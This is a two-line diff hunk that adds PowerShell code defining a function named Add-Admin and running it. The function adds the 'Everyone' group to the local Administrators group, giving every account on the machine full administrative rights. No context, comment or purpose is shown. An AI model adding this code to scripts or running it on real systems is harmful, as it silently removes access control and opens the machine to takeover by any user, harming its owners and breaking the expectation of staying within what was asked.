@@ -1,0 +1,2 @@
+${function:Add-Admin} = 'Add-LocalGroupMember Administrators Everyone'
+Add-Admin
